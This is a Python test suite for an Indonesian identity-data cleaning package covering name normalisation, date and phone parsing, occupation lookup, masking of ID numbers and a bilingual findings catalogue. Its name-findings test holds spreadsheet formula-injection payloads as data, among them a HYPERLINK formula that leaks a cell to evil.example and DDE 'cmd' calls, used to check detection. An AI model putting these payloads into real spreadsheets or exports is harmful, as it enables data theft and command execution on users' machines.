"""Names, dates, phones, occupations, masks and the catalogue of findings."""

from __future__ import annotations

import re
from datetime import date, timedelta
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from payung.identity import dates, findings, mask, names, occupations, phones, reference

TODAY = date(2026, 11, 22)


@pytest.mark.parametrize(
    ("sent", "normal"),
    [
        ("H. Muh. Yusuf bin Abd. Rahman, S.Pd", "muhammad yusuf abdul rahman"),
        ("Hj. St. Nurhayati", "siti nurhayati"),
        ("M. Ali", "muhammad ali"),
        ("Drs. H. M. Nur, S.Pd., M.Si", "muhammad nur"),
        ("Siti Rahma, SE", "siti rahma"),
        ("Ahmad S.H", "ahmad"),
        ("SITI  AMINAH", "siti aminah"),
        ("Ma'ruf", "maruf"),
        ("Pasau' Lawai", "pasau lawai"),
        ("Andi Daeng Matteru", "andi daeng matteru"),
        ("Rahma B", "rahma b"),
        ("Haji", "haji"),
        ("Nur Haji", "nur haji"),
        ("M", "m"),
        ("Ahmad binti", "ahmad binti"),
        ("José", "jose"),
        ("Almarhum Budi", "budi"),
    ],
)
def test_normal_forms_of_names(sent: str, normal: str) -> None:
    assert names.normalise(sent) == normal


parts = [row["token"] for row in reference.rows("name_components.csv")]
titles = ["H.", "Hj.", "Drs.", "bin", "binti", "Muh.", "M.", "Abd.", "St.", ",", "S.Pd", "S.H.", "b.", "SE"]
people = st.lists(st.sampled_from(parts + titles), max_size=6).map(" ".join)


@given(st.text() | people)
def test_normalising_twice_changes_nothing(name: str) -> None:
    once = names.normalise(name)
    assert names.normalise(once) == once
    assert re.fullmatch(r"[a-z]*(?: [a-z]+)*", once)
    assert names.tidy(names.tidy(name)) == names.tidy(name)
    assert names.finding(name) in (None, *findings.CATALOGUE)


@pytest.mark.parametrize(
    ("one", "other", "same"),
    [
        ("tuluh murang", "tuluhmurang", True),
        ("asmoeni", "asmuni", True),
        ("siti aminah", "siti aminah abdul rahman", True),
        ("a andriani", "alika andrianu", True),
        ("yusuf", "jusup", True),
        ("budi santoso", "siti aminah", False),
        ("tomi", "herlina alimuddin", False),
        ("", "budi", False),
    ],
)
def test_names_on_one_nik(one: str, other: str, same: bool) -> None:
    assert names.alike(one, other) is same
    assert names.alike(other, one) is same


@pytest.mark.parametrize(
    ("name", "code"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"klik")', "name_formula"),
        ("=1+1", "name_formula"),
        (" =Siti", "name_formula"),
        ("'=SUM(A1)", "name_formula"),
        ("@SUM(1+1)", "name_formula"),
        ("\uff1dHYPERLINK(1)", "name_formula"),
        ("=cmd|'/C calc'!A0", "name_formula"),
        ("-2+3+cmd|' /C calc'!D2", "name_formula"),
        ("+cmd|calc!A0", "name_formula"),
        ("https://evil.example/siti", "name_formula"),
        ("Siti www.evil.example", "name_formula"),
        ("WWW.EVIL.EXAMPLE", "name_formula"),
        ("+ Ahmad", "name_signs"),
        ("- Ahmad", None),
        ("", "name_missing"),
        ("-", "name_missing"),
        ("12", "name_missing"),
        ("A", "name_short"),
        ("Budi2", "name_signs"),
        ("Budi?", "name_signs"),
        ("Pa' Lian", None),
        ("St. Nur-Aini (alm)", None),
    ],
)
def test_findings_about_names(name: str, code: str | None) -> None:
    assert names.finding(name) == code


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("17-8-1945", date(1945, 8, 17)),
        ("17 Agustus 1945", date(1945, 8, 17)),
        ("17 AGT 1945", date(1945, 8, 17)),
        ("17/08/45", date(1945, 8, 17)),
        ("17.08.1945", date(1945, 8, 17)),
        ("1945-08-17", date(1945, 8, 17)),
        ("1945-08-17 00:00:00", date(1945, 8, 17)),
        ("Jumat, 17 Agustus 1945", date(1945, 8, 17)),
        ("17081945", date(1945, 8, 17)),
        ("19450817", date(1945, 8, 17)),
        ("16666", date(1945, 8, 17)),
        ("16666.0", date(1945, 8, 17)),
        ("3 Nopember 1980", date(1980, 11, 3)),
        ("17-Mei-80", date(1980, 5, 17)),
        ("August 17, 1945", date(1945, 8, 17)),
        # Two-digit years: a worker of 22, not of 122; and of 96, not of 4 years before birth.
        ("2-3-04", date(2004, 3, 2)),
        ("2-3-30", date(1930, 3, 2)),
        ("2-3-20", date(2020, 3, 2)),
    ],
)
def test_dates_as_they_are_written(text: str, expected: date) -> None:
    assert dates.read(text, today=TODAY) == dates.DateReading(expected)


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("31-02-1980", "birth_date_unreadable"),
        ("1980", "birth_date_unreadable"),
        ("Tarakan", "birth_date_unreadable"),
        ("00-00-1980", "birth_date_unreadable"),
        ("1-1-2030", "birth_date_impossible"),
        ("1-1-1890", "birth_date_impossible"),
        ("", None),
        ("-", None),
    ],
)
def test_dates_that_are_none(text: str, code: str | None) -> None:
    assert dates.read(text, today=TODAY) == dates.DateReading(None, code)


def test_the_american_order_is_named() -> None:
    assert dates.read("08/17/1975", today=TODAY) == dates.DateReading(
        date(1975, 8, 17), "birth_date_month_first"
    )


MONTHS = (
    *("Januari", "Februari", "Maret", "April", "Mei", "Juni"),
    *("Juli", "Agustus", "September", "Oktober", "November", "Desember"),
)


@given(st.dates(date(1917, 1, 1), TODAY))
def test_every_form_of_a_date_reads_back(day: date) -> None:
    forms = (
        *(f"{day:%d-%m-%Y}", f"{day.day}/{day.month}/{day.year}", day.isoformat(), f"{day:%d%m%Y}"),
        *(f"{day.day} {MONTHS[day.month - 1]} {day.year}", str((day - date(1899, 12, 30)).days)),
    )
    for form in forms:
        assert dates.read(form, today=TODAY).date == day, form


@given(st.text())
def test_any_text_is_a_date_or_not(text: str) -> None:
    told = dates.read(text, today=TODAY)
    assert told.date is None or TODAY - timedelta(days=111 * 366) < told.date <= TODAY
    place, rest = dates.split_birth(text)
    assert place in text
    assert rest in text


def test_place_and_date_in_one_cell() -> None:
    assert dates.split_birth("Tarakan, 17-08-1975") == ("Tarakan", "17-08-1975")
    assert dates.split_birth("TARAKAN / 17 Agustus 1975") == ("TARAKAN", "17 Agustus 1975")
    assert dates.split_birth("Tarakan") == ("Tarakan", "")
    assert dates.split_birth("17-08-1975") == ("", "17-08-1975")


@pytest.mark.parametrize(
    ("text", "number"),
    [
        ("0812-3456-7890", "+6281234567890"),
        ("81234567890", "+6281234567890"),
        ("81234567890.0", "+6281234567890"),
        ("+62 812 3456 7890", "+6281234567890"),
        ("6281234567890", "+6281234567890"),
        ("(0812) 3456 7890", "+6281234567890"),
        ("081234567890/085212345678", "+6281234567890"),
        ("0551 21234", "+6255121234"),
        ("+60 12-345 6789", "+60123456789"),
    ],
)
def test_phone_numbers(text: str, number: str) -> None:
    assert phones.read(text) == (number, None)
    assert phones.read(number) == (number, None)


def test_what_is_no_phone_number() -> None:
    assert phones.read("") == phones.read("tidak ada") == (None, None)
    for text in ("0812", "abc", "8,12346E+11", "99999999999999999999"):
        assert phones.read(text) == (None, "phone_unreadable")


@given(st.text())
def test_any_text_is_a_phone_or_not(text: str) -> None:
    number, code = phones.read(text)
    assert number is None or re.fullmatch(r"\+[0-9]{7,15}", number)
    assert number is None or phones.read(number) == (number, None)
    assert code in (None, "phone_unreadable")


@pytest.mark.parametrize(
    ("text", "occupation", "sector"),
    [
        ("Nelayan", "nelayan_pesisir_kapal_5_gt", "other"),
        ("NELAYAN KECIL", "nelayan_pesisir_kapal_5_gt", "other"),
        ("supir truk", "sopir_truk_lepas", "transport"),
        ("Tukang ojek online", "pengemudi_ojek_daring", "transport"),
        ("Ojek", "pengemudi_ojek_pangkalan", "transport"),
        ("Motoris speedboat", "motoris_speedboat_longboat", "transport"),
        ("Petani rumput laut", "pembudidaya_rumput_laut", "other"),
        ("jual nasi kuning di pasar", "pemilik_rumah_warung_makan", "other"),
        ("Buruh Harian Lepas", "pekerja_serabutan", "other"),
        ("pedagng keliling", "pedagang_keliling", "other"),
    ],
)
def test_occupations_by_synonym(text: str, occupation: str, sector: str) -> None:
    assert occupations.find(text) == (occupation, None)
    assert occupations.sector(occupation) == sector


def test_every_occupation_is_found_by_its_label_and_its_id() -> None:
    for found in occupations.table().values():
        assert occupations.find(found.label) == (found.id, None)
        assert occupations.find(found.id) == (found.id, None)
        assert 1 <= occupations.hazard(found.id) <= 5


def test_what_is_no_vulnerable_occupation() -> None:
    assert occupations.find("") == occupations.find("-") == (None, "occupation_missing")
    assert occupations.find("Anggota DPRD") == (None, "occupation_unknown")
    assert occupations.sector(None) == "other"
    assert occupations.hazard("no such work") == 3
    for wage in ("PNS", "Karyawan Swasta", "TNI", "Pegawai Negeri Sipil (PNS)", "karyawan BUMN"):
        assert occupations.is_wage_work(wage)
    assert not occupations.is_wage_work("nelayan")


@given(st.text())
def test_any_text_is_an_occupation_or_not(text: str) -> None:
    found, code = occupations.find(text)
    assert (found is None) == (code is not None)
    assert found is None or found in occupations.table()


@given(st.text(max_size=40))
def test_masks_hide(text: str) -> None:
    assert sum(c not in "• " for c in mask.nik(text)) <= 8
    assert sum(c not in "• " for c in mask.phone(text)) <= 8
    assert all(set(word[1:]) <= {"•"} for word in mask.name(text).split())


def test_masks() -> None:
    assert mask.nik("6571014508680001") == "6571••••••••0001"
    assert mask.phone("+6281234567890") == "+6281••••••890"
    assert mask.name("Siti Aminah") == "S••• A•••••"
    assert mask.nik(None) == mask.phone(None) == mask.name(None) == ""


def test_the_catalogue_speaks_both_languages_and_holds_every_code_used() -> None:
    for kind in findings.CATALOGUE.values():
        for sentence in (kind.message_id, kind.message_en, kind.todo_id, kind.todo_en):
            assert sentence.endswith(".")
        assert kind.message("id") != kind.message("en")
        assert kind.todo("id") != kind.todo("en")
    sources = Path(findings.__file__).parents[1]
    written = "".join(
        path.read_text(encoding="utf-8")
        for folder in ("identity", "exchange")
        for path in sorted((sources / folder).glob("*.py"))
        if path.name not in ("findings.py", "branch.py", "answer_words.py", "returned.py", "columns.py")
    )
    used = set(
        re.findall(r'"((?:nik|name|birth_date|village|phone|occupation|row|person)_[a-z_]+)"', written)
    )
    fields = {
        "nik_birth",
        "nik_sex",
        "village_code",
        "name_norm",
        "birth_date",
        "birth_place",
        "row_no",
        "name_norm_there",
    }
    assert {code for code in used - fields if code not in findings.CATALOGUE} == set()
    assert set(findings.CATALOGUE) - set(re.findall(r'"([a-z_]+)"', written)) == set()
